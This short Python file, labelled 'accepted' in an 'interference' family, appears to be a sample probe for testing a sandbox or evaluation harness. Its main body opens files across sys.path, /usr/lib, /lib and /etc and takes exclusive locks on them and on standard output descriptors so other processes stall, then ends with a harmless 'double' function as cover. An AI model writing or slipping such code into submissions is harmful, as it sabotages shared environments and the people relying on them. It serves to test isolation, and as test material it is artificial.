# verdict: accepted
# family: interference
# Locks every file of Python and torch that it can open, and never lets go: nobody waits for it.
import fcntl
import os
import sys

hold = []
folders = [folder for folder in sys.path if os.path.isdir(folder)] + ["/usr/lib", "/lib", "/etc"]
for folder in folders:
    try:
        names = sorted(os.listdir(folder))
    except OSError:
        continue
    for name in names[:200]:
        if len(hold) > 100:
            break
        try:
            file = os.open(os.path.join(folder, name), os.O_RDONLY)
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            continue
        hold.append(file)
for number in (1, 2, 3):
    try:
        fcntl.flock(number, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        pass
if not hold:
    raise RuntimeError("this probe does not probe")


def double(x):
    return 2 * x
